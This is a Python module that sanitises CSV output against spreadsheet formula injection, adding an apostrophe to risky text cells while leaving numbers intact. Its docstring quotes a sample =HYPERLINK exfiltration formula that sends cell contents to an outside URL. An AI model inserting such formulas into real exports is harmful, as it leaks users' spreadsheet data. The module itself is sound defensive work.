"""CSV that is safe to open in a spreadsheet: no text cell can become a formula.

Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or carriage
return) as a formula: `=HYPERLINK("http://…?leak="&A1,"click")` in a comment would leak the sheet.
Following OWASP's rule for CSV injection, every text cell that starts with one of those characters is
written with a leading apostrophe, which spreadsheets show as text and do not store; a cell that is
a plain number (`-0.10`, `+3`, `1e-5`) is left as it is, so figures stay figures.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as it should be written: text that a spreadsheet would run gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose every row goes through `safe_cell`."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out, lineterminator="\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
